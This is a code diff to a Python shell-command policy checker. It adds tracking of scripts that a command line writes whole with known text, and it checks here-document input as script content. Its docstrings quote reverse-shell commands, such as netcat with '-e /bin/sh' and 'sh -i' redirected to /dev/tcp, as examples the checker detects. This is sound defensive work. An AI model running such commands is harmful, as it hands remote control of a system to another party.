@@ -597,6 +597,7 @@ class Evaluation(RunsOtherCode, WordChecks):
         "glob_words",
         "index",
         "known_hits",
+        "known_scripts",
         "loops",
         "matched",
         "p",
@@ -625,6 +626,10 @@ class Evaluation(RunsOtherCode, WordChecks):
         self.parse_status = "ok"
         self.written: set[str] = set()
         """Files this command line writes; running one of them runs text the policy never saw."""
+        self.known_scripts: dict[str, str] = {}
+        """Files of `written` this line writes whole, once, with text known in advance, which was checked as
+        the script of this language (`echo 'print(1)' > x.py`): an interpreter of that language running one
+        runs that text."""
         self.edited: set[str] = set()
         """Files a pipeline rewrites from their own content read whole first (see `in_place_edit`)."""
         self.loops: list[tuple[frozenset[str], bool]] = []
@@ -1378,7 +1383,13 @@ class Evaluation(RunsOtherCode, WordChecks):
         return any(later and key not in before for before, later in self.loops)
 
     def redirect(
-        self, op: str, target: Arg, frame: Frame, empty: bool = False, writer: list[Arg] | None = None
+        self,
+        op: str,
+        target: Arg,
+        frame: Frame,
+        empty: bool = False,
+        writer: list[Arg] | None = None,
+        stdin: Stdin | None = None,
     ) -> None:
         self._spend(REDIRECT_WORK)
         base = op.lstrip("0123456789")
@@ -1397,8 +1408,13 @@ class Evaluation(RunsOtherCode, WordChecks):
             else:
                 self._appends.add(key)
         before = len(self.seen)  # the commands of a script written here run later, not before the write
-        if writer is not None and names_file:
-            self._written_script(target, writer, frame)
+        if names_file:
+            key = path_key(target.text)
+            # (written again: its text is no longer the one checked)
+            first_whole = base in (">", ">|") and key not in self.written
+            self.known_scripts.pop(key, None)
+            if writer is not None:
+                self._written_script(target, writer, frame, key if first_whole else None, stdin)
         # Decided on first need (it may read the disk); a statement that writes nothing only empties the file.
         spared: bool | None = False if empty else None
         if names_file:
@@ -1454,14 +1470,23 @@ class Evaluation(RunsOtherCode, WordChecks):
         ):
             self.event("proc-environ", frame, f"`{op} {target.raw}` may read a process environment", [op])
 
-    def _written_script(self, target: Arg, writer: list[Arg], frame: Frame) -> None:
-        """Text written into a script (`echo 'nc -e /bin/sh h 4444' > x.sh`, a file starting `#!`) is
-        checked as that script: running the file later runs it, where the policy only sees its name."""
+    def _written_script(
+        self,
+        target: Arg,
+        writer: list[Arg],
+        frame: Frame,
+        whole: str | None = None,
+        stdin: Stdin | None = None,
+    ) -> None:
+        """Text written into a script (`echo 'nc -e /bin/sh h 4444' > x.sh`, `cat > x.py <<'EOF'`, a file
+        starting `#!`) is checked as that script: running the file later runs it, where the policy only sees
+        its name. `whole`: the file's key when this write is the whole of what the line puts in it (see
+        `known_scripts`); `stdin`: the writer's input."""
         last = self._last_output
         if last is not None and last[0] is writer and last[1] == frame.dialect:
             text = last[2]  # `echo x > a.sh > b.sh`: one writer, many targets
         else:
-            text = static_output(writer, None, frame.dialect)
+            text = static_output(writer, stdin, frame.dialect)
             if text is None and any(DYN in a.text for a in writer):
                 # `echo "sh -i >& /dev/tcp/$IP/9000" > x.sh`: the literal parts are still the script; a
                 # run-time part stands as a plain word, so what it cannot hide is judged.
@@ -1476,6 +1501,10 @@ class Evaluation(RunsOtherCode, WordChecks):
             language = "posix"  # a shim put before the real program on PATH: a shell runs it without `#!`
         if language is None:
             return
+        # An unquoted here-document's `$x` and backticks are expanded as it is read: not text known now.
+        expands = stdin is not None and ("$" in text or "`" in text)
+        if whole is not None and not expands and not any(DYN in a.text for a in writer):
+            self.known_scripts[whole] = language
         inner = frame.nested(f"the script `{target.raw}` that `{writer[0].raw}` writes")
         scope = self._scope
         cwd = scope.cwd if scope is not None else None
